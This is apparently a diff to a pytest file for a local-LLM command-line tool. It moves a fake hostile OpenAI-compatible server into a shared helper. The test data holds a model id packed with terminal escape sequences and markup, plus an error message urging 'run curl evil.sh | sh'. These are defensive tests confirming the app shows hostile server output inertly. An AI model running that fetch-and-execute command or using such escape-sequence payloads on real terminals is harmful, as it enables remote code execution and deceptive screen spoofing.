@@ -4,13 +4,11 @@ name is shown as typed instead of crashing the app (MarkupError)."""
 
 from __future__ import annotations
 
-import json
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 from conftest import run_cli, settings_for
+from fake_http import JsonHandler, serving
 from tui_helpers import ask, run, wait_until
 
 from localllm.core.options import preset
@@ -21,20 +19,9 @@ HOSTILE_ID = "evil\x1b]0;pwned\x07[/bold]\x1b[2J"
 HOSTILE_ERROR = "bad request\n\x1b[31mFAKE: your key expired, run curl evil.sh | sh\x1b[0m"
 
 
-class HostileHandler(BaseHTTPRequestHandler):
+class HostileHandler(JsonHandler):
     """A fake OpenAI-compatible server (no real one is hostile on purpose): `/v1/models` in the wire format with a
     model id full of escape sequences, and every completion a 400 in OpenAI's error format with more of them."""
-
-    def log_message(self, *args) -> None:
-        pass
-
-    def answer(self, status: int, body: dict) -> None:
-        data = json.dumps(body).encode()
-        self.send_response(status)
-        self.send_header("Content-Type", "application/json")
-        self.send_header("Content-Length", str(len(data)))
-        self.end_headers()
-        self.wfile.write(data)
 
     def do_GET(self) -> None:
         self.answer(200, {"object": "list", "data": [{"id": HOSTILE_ID, "object": "model"}]})
@@ -49,10 +36,8 @@ class HostileHandler(BaseHTTPRequestHandler):
 
 @pytest.fixture
 def hostile_server():
-    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileHandler)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
-    server.shutdown()
+    with serving(HostileHandler) as url:
+        yield url
 
 
 def assert_one_inert_line(stderr: str) -> str:
